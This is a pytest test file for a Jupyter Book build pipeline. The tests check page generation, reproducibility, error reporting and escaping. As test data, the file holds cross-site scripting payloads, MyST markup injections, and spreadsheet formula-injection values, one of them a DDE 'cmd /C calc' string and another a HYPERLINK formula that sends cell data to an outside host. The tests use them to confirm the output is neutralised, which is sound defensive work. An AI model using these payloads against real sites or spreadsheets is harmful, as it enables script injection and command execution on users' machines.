"""The whole pipeline into a temporary directory: the book as a reader gets it.

One copy of the project is built once and then changed step by step, because
each build costs a few seconds (papermill and Sphinx).
"""
from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest

from analysis.extract import gold
from tests.conftest import assert_one_clear_error, copy_project, run_cli

HOSTILE_TITLE = '<script>alert("x")</script><img src=x onerror=alert(1)>'


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    paths = copy_project(tmp_path_factory.mktemp("book") / "project")
    # Hidden tool folders in a working copy must not become pages (seen: pytest's README).
    (paths.root / ".pytest_cache").mkdir()
    (paths.root / ".pytest_cache" / "README.md").write_text("# cache\n")
    proc = run_cli("build", root=paths.root)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return paths, proc


def _page(paths, name="corpus"):
    return (paths.html / "book" / f"{name}.html").read_text(encoding="utf-8")


def test_build_prints_one_line_per_step(built):
    _, proc = built
    steps = [l for l in proc.stdout.splitlines() if re.match(r"\[\d/7\]", l)]
    assert [s.split(":")[0] for s in steps] == [
        "[1/7] validate", "[2/7] prepare", "[3/7] pages", "[4/7] execute", "[5/7] jupyter-book",
        "[6/7] post-build", "[7/7] publish"]


def test_index_and_corpus_page_show_all_articles(built):
    paths, _ = built
    assert (paths.html / "index.html").exists()
    page = _page(paths)
    for aid, lang in [("000", "Persian"), ("001", "Arabic"), ("002", "Arabic"), ("003", "Arabic"),
                      ("004", "Arabic")]:
        # each article by its outlet and date, linked to its page, with its language in words
        assert re.search(rf'<td[^>]*><a class="article-ref" href="articles/{aid}.html">[^<0-9]+[^<]*</a></td>'
                         rf"<td[^>]*>{lang}</td>", page), aid
    # numbers in the prose are glued from data, not typed
    assert "The book reads <span class=\"pasted-text\">5</span> news articles" in page
    # titles in Persian/Arabic carry their direction and language
    assert 'dir="rtl" lang="fa"' in page and 'dir="rtl" lang="ar"' in page
    assert re.search(r'<img[^>]+src="[^"]*corpus-composition[^"]*\.png"', page)
    assert list(paths.html.rglob("corpus-composition*.png"))


def test_each_page_has_one_viewport_tag(built):
    # Sphinx, docutils and the theme's head each wrote one (analysis/book/sphinx/head.py)
    paths, _ = built
    for page in ["intro", "corpus", "methods", "articles/001"]:
        html = _page(paths, page)
        assert html.count('<meta name="viewport"') == 1, page
    search = (paths.html / "search.html").read_text(encoding="utf-8")
    assert search.count('<meta name="viewport"') == 1


def test_arabic_font_is_shipped_not_fetched(built):
    paths, _ = built
    css = (paths.html / "_static" / "book.css").read_text(encoding="utf-8")
    assert 'url("fonts/Vazirmatn-NL-Regular.woff2")' in css
    assert (paths.html / "_static" / "fonts" / "Vazirmatn-NL-Regular.woff2").stat().st_size > 10_000


def test_no_outside_requests(built):
    paths, _ = built
    for page in paths.html.rglob("*.html"):
        text = page.read_text(encoding="utf-8")
        assert not re.search(r'<(script|link|img)[^>]+(src|href)="https?://', text), page


def test_processed_outputs_are_reproducible(built, tmp_path):
    paths, _ = built
    other = copy_project(tmp_path / "again")
    assert run_cli("prepare", root=other.root).returncode == 0
    for f in sorted(paths.processed.rglob("*")):
        if f.is_file():
            twin = other.processed / f.relative_to(paths.processed)
            assert twin.read_bytes() == f.read_bytes(), f


def _digests(paths):
    import hashlib
    files = sorted([*paths.book.glob("*.ipynb"), *paths.book.glob("figures/*"),
                    *paths.processed.rglob("*")])
    return {str(f.relative_to(paths.root)): hashlib.sha256(f.read_bytes()).hexdigest()
            for f in files if f.is_file()}


def test_re_executing_every_chapter_gives_identical_outputs(built):
    paths, _ = built
    before = _digests(paths)
    proc = run_cli("execute", "--force", root=paths.root)
    assert proc.returncode == 0, proc.stderr
    after = _digests(paths)
    assert before.keys() == after.keys()
    changed = [f for f in before if before[f] != after[f]]
    assert not changed, changed


def test_unchanged_rebuild_does_nothing(built):
    """Nothing changed: the build says so and stops before any step (no Sphinx,
    no copy); the published book is the same release, untouched."""
    paths, _ = built
    release = paths.html.resolve()
    proc = run_cli("build", root=paths.root)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.startswith("up to date:"), proc.stdout
    assert "[1/7]" not in proc.stdout and "executed" not in proc.stdout, proc.stdout
    assert paths.html.resolve() == release
    proc = run_cli("execute", root=paths.root)
    assert proc.returncode == 0, proc.stderr
    assert "chapter corpus: up to date" in proc.stdout and "executed" not in proc.stdout


def test_chapter_source_opens_as_its_executed_notebook(built):
    """What Jupytext does when a contributor opens ``book/<name>.py`` in Jupyter:
    the pairing in ``book/jupytext.toml`` finds the executed ``.ipynb``, whose
    inputs must match the source exactly (it is newer), and shows the source's
    cells with the last build's outputs."""
    import os

    import jupytext
    from jupytext.config import find_jupytext_configuration_file, load_jupytext_configuration_file
    from jupytext.pairs import latest_inputs_and_outputs
    from jupytext.sync_pairs import read_pair

    from analysis.book.notebooks import chapters

    paths, _ = built
    config = load_jupytext_configuration_file(find_jupytext_configuration_file(str(paths.book)))
    for ch in chapters(paths):
        src = str(ch.source)
        formats = config.default_formats(src)
        inputs, outputs = latest_inputs_and_outputs(src, "py:percent", formats, os.path.getmtime,
                                                    contents_manager_mode=True)
        assert outputs.path == str(ch.executed), (ch.name, outputs)
        nb = read_pair(inputs, outputs, lambda p, f: jupytext.read(p, fmt=f, config=config),
                       must_match=True)  # raises PairedFilesDiffer if the inputs differ
        assert [c.source for c in nb.cells] == [c.source for c in jupytext.read(src).cells], ch.name
        assert any(c.get("outputs") for c in nb.cells), ch.name


def test_a_notebook_saved_over_the_builds_is_executed_again(built):
    """The build's stamp covers its own output: a paired .ipynb saved from
    Jupyter (other outputs, same source) is not taken for the build's."""
    import nbformat

    paths, _ = built
    executed = paths.book / "corpus.ipynb"
    nb = nbformat.read(executed, as_version=4)
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.outputs = []
    nbformat.write(nb, executed)
    proc = run_cli("execute", root=paths.root)
    assert proc.returncode == 0, proc.stderr
    assert "chapter corpus: executed" in proc.stdout, proc.stdout
    assert "chapter methods: up to date" in proc.stdout, proc.stdout


# A hostile article: markup, script, links and MyST syntax in its text, title and outlet.
HOSTILE_PAYLOADS = [
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "{eval}`1+1`",
    "```{code-cell} python\nimport os\n```",
    ":::{note}\nfenced\n:::",
    "{{ secret }}",
    "</div></section><h1>not a heading</h1>",
]
HOSTILE_TEXT = ("أعلنت الشرطة إغلاق 300 قناة على تيليغرام في نوفمبر 2019.\n"
                + "\n".join(HOSTILE_PAYLOADS) + "\nنص عربي آخر عن داعش.\n")


def test_added_article_gets_its_page_and_its_text_is_escaped(built, tmp_path):
    paths, _ = built
    src = tmp_path / "new.txt"
    src.write_text(HOSTILE_TEXT, encoding="utf-8")
    proc = run_cli("add-article", str(src), "--lang", "ar", "--title", HOSTILE_TITLE,
                   "--outlet", "<b>Outlet</b> {eval}`x`", root=paths.root)
    assert proc.returncode == 0, proc.stderr
    proc = run_cli("build", root=paths.root)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    page = _page(paths)
    assert re.search(r'<td[^>]*><a class="article-ref" href="articles/005.html">[^<]+</a></td><td[^>]*>Arabic</td>', page)
    assert "The book reads <span class=\"pasted-text\">6</span> news articles" in page
    # The introduction glues the count from the corpus chapter: an incremental
    # build must re-read it, not keep the old 5.
    intro = _page(paths, "intro")
    assert re.search(r'in\s*<span class="pasted-text">6</span>\s*articles', intro)
    assert HOSTILE_TITLE not in page
    assert html.escape(HOSTILE_TITLE) in page

    # Its own page, with no edit to _toc.yml: its text, its mentions, and a notice
    # that its claims are not coded; the Articles index lists it.
    article = (paths.html / "book" / "articles" / "005.html").read_text(encoding="utf-8")
    index = (paths.html / "book" / "articles" / "index.html").read_text(encoding="utf-8")
    assert 'href="005.html"' in index
    assert "not yet coded" in article and "not yet coded" in index
    assert 'class="mention m-quantity" tabindex="0" data-value="300 channels"' in article
    assert 'data-value="Telegram"' in article and 'data-value="November 2019"' in article
    assert 'id="p-1" dir="rtl" lang="ar"' in article
    # Every payload is on the page as literal text, and nothing it carries is markup.
    body = Body()
    # the page's own content: its sections inside the theme's article element
    content = article.split('<article class="bd-article">', 1)[1].split("</article>", 1)[0]
    body.feed(content[: content.rindex("</section>")])
    text = " ".join(body.text.split())
    for payload in HOSTILE_PAYLOADS + [HOSTILE_TITLE, "<b>Outlet</b> {eval}`x`"]:
        for line in payload.split("\n"):
            assert line in text, line
    assert not {"script", "img", "b", "iframe"} & body.tags, body.tags
    assert not [a for a in body.attrs if a[0].startswith("on")]
    assert not [a for a in body.attrs if a[0] == "href" and a[1].strip().lower().startswith("javascript")]
    assert body.h1 == 1                                # the page's own title only
    assert "cell_input" not in content and "admonition" not in content


class Body(HTMLParser):
    """Text, tag names, attributes and headings of an HTML fragment."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.text, self.tags, self.attrs, self.h1 = "", set(), [], 0

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attrs += attrs
        self.h1 += tag == "h1"

    def handle_data(self, data):
        self.text += data


def test_failing_chapter_names_its_source_line_and_keeps_the_book(built):
    """Defect 9: the error names book/<chapter>.py, the line where the failing cell
    starts and the failing line itself, not papermill's execution count."""
    paths, _ = built
    before = _page(paths)
    source = paths.notebooks_src / "corpus.py"
    original = source.read_text(encoding="utf-8")
    broken = original + '\n# %%\nn = len(corpus)\n\nraise ValueError("deliberate")\n'
    lines = broken.splitlines()
    cell_line = len(lines) - lines[::-1].index("# %%")          # the marker's line, 1-based
    raise_line = cell_line + 3
    assert lines[raise_line - 1] == 'raise ValueError("deliberate")'
    source.write_text(broken, encoding="utf-8")
    try:
        proc = run_cli("build", root=paths.root)
        line = assert_one_clear_error(proc, "chapter corpus", "ValueError: deliberate",
                                      f"book/corpus.py:{raise_line}",
                                      f"cell that starts at line {cell_line}",
                                      'raise ValueError("deliberate")')
        assert not re.search(r"\bcell \d", line), line
        assert "TCP without encryption" not in proc.stderr  # kernel chatter goes to a log
        assert _page(paths) == before
        assert (paths.build / "failed" / "corpus.ipynb").exists()
    finally:
        source.write_text(original, encoding="utf-8")


def test_corrupt_article_fails_and_keeps_the_last_good_book(built):
    paths, _ = built
    before = _page(paths)
    target = paths.raw / "002_15eaa9dbf04ff99c.txt"
    original = target.read_bytes()
    target.write_bytes(original + b"x")
    try:
        proc = run_cli("build", root=paths.root)
        assert_one_clear_error(proc, "data/raw/002_15eaa9dbf04ff99c.txt", "checksum mismatch")
        assert _page(paths) == before
    finally:
        target.write_bytes(original)


def test_references_list_the_articles_and_every_fact_address(built):
    import csv

    paths, _ = built
    page = (paths.html / "book" / "references.html").read_text(encoding="utf-8")
    with open(paths.reference / "facts.csv", encoding="utf-8", newline="") as fh:
        urls = {u.strip() for row in csv.DictReader(fh) for u in row["source_url"].split(" ; ")
                if u.strip()}
    assert urls
    missing = [u for u in urls if html.escape(u) not in page and u not in page]
    assert not missing, missing
    for aid in ("000", "001", "002", "003", "004"):
        assert f"Article {aid} of this book" in page, aid
    # which facts cite a source is for contributors (the data keep it), not readers
    assert "Facts: " not in page and "europol-2019-referrals" not in page


def test_methods_chapter_reports_every_target(built):
    paths, _ = built
    page = _page(paths, "methods")
    assert "Precision and recall per gold set and kind of mention" in page
    # targets on the articles and general sets are met (tested directly in
    # test_extract_gold.py); the held-out set is shown whatever it scores
    assert re.search(r"<td[^>]*>articles</td><td[^>]*>quantities</td>(<td[^>]*>[^<]*</td>){7}<td[^>]*>yes</td>", page)
    assert re.search(r'<span class="pasted-text">\d+</span> of\s*<span class="pasted-text">\d+</span>', page)
    # findings first: the held-out scores in the page's first section, in words
    short = page[page.index('id="in-short"'):page.index('id="how-it-is-measured"')]
    held = [name for name, r in gold.set_roles(paths).items() if r["role"] == "held-out"]
    assert held, "no held-out gold set: the fair measure would be missing"
    assert "held-out" in short and all(name in short for name in held)
    assert re.search(r'quantities with precision\s*<span class="pasted-text">[01]\.\d{2,4}</span>', short)


def test_every_processed_table_is_offered_for_download(built):
    paths, _ = built
    page = _page(paths, "data")
    for f in sorted(paths.processed.iterdir()):
        if f.is_file():
            assert re.search(rf'href="\.\./_downloads/[0-9a-f]+/{re.escape(f.name)}"', page), f.name


# --- defect 8: no spreadsheet formula in any CSV offered for download -------------------

FORMULA_FIELDS = {"title": '=HYPERLINK("http://example.invalid/?"&A1,"open")',
                  "outlet": "+SUM(1,2)", "notes": "@cmd|' /C calc'!A0", "dated-by": "-2+3"}
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def offered_csvs(paths) -> dict:
    """Every CSV a page of the published book links to: file → the pages that offer it."""
    from pathlib import Path
    from urllib.parse import unquote, urlsplit

    root = paths.html.resolve()
    found: dict = {}
    for page in sorted(root.rglob("*.html")):
        for href in re.findall(r'href="([^"#?]+\.csv)"', page.read_text(encoding="utf-8")):
            if urlsplit(href).scheme:
                continue
            target = (page.parent / unquote(href)).resolve()
            assert target.is_file() and root in target.parents, (page, href)
            found.setdefault(target, []).append(page.relative_to(root))
    return found


def test_no_csv_offered_starts_a_cell_with_a_formula(built, tmp_path):
    import csv

    paths, _ = built
    src = tmp_path / "formula.txt"
    src.write_text("أعلنت الشرطة إغلاق 300 قناة على تيليغرام.\n", encoding="utf-8")
    proc = run_cli("add-article", str(src), "--lang", "ar", "--date", "2019-11",
                   *[f"--{k}={v}" for k, v in FORMULA_FIELDS.items()], root=paths.root)
    assert proc.returncode == 0, proc.stderr
    proc = run_cli("build", root=paths.root)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    offered = offered_csvs(paths)
    names = {p.name for p in offered}
    # every processed table and every figure's table is among them
    assert {p.name for p in paths.processed.glob("*.csv")} <= names
    assert {p.name for p in (paths.book / "figures").glob("*.csv")} <= names
    neutralised, numbers = [], []
    for path in offered:
        with open(path, encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                        assert _NUMBER.match(cell), (path.name, cell)   # a number stays a number
                        numbers.append(cell)
                    elif cell[:2] in {"'" + c for c in "=+-@\t\r"}:
                        neutralised.append(cell)
    for value in FORMULA_FIELDS.values():
        assert "'" + value in neutralised, value                     # shown as text, kept whole
    assert "-95.5" in numbers                                         # facts.csv keeps its number


def test_files_the_build_writes_keep_the_umask(built):
    """Defect 10: executed notebooks, generated pages and the HTML rewritten after
    Sphinx get 0666 less the umask, like any new file, not mkstemp's 0600."""
    import os
    import stat

    paths, _ = built
    mask = os.umask(0)
    os.umask(mask)
    expected = 0o666 & ~mask
    files = [*paths.book.glob("*.ipynb"), *(paths.book / "articles").glob("*.md"),
             paths.book / "status.md", paths.build / "toc.yml",
             paths.html / "book" / "articles" / "001.html", paths.html / "book" / "corpus.html",
             paths.html / "book" / "status.html"]
    wrong = {str(f.relative_to(paths.root)): oct(stat.S_IMODE(f.stat().st_mode)) for f in files
             if stat.S_IMODE(f.stat().st_mode) != expected}
    assert not wrong, (oct(expected), wrong)


def test_status_page_says_how_the_book_was_built(built):
    from importlib.metadata import version

    paths, _ = built
    page = _page(paths, "status")
    assert "not a git checkout" in page                       # the copy has no .git
    # the date in words (the copy has no git: the release date in CITATION.cff)
    assert re.search(r"\d{1,2} (January|February|March|April|May|June|July|August|September|"
                     r"October|November|December) \d{4}, \d{2}:\d{2} UTC", page)
    assert f"<td><p>{version('jupyter-book')}</p></td>" in page and f"<td><p>{version('pandas')}</p></td>" in page
    table = page.split('id="build-status-chapters"', 1)[1].split("<!-- /build-status -->", 1)[0]
    rows = re.findall(r'<tr><td data-label="chapter"><a href="(\w+)\.html">', table)
    assert rows == ["corpus", "platform_policy", "takedown_numbers", "migration_networks", "codebook",
                    "methods"]
    assert table.count("book/corpus.py") == 1 and re.search(r"<code>[0-9a-f]{16}</code>", table)
    assert '<a href="corpus.html">The corpus</a>' in table           # chapters by their titles
    assert 'href="status.html">Build status</a>' in _page(paths, "intro")   # in the table of contents
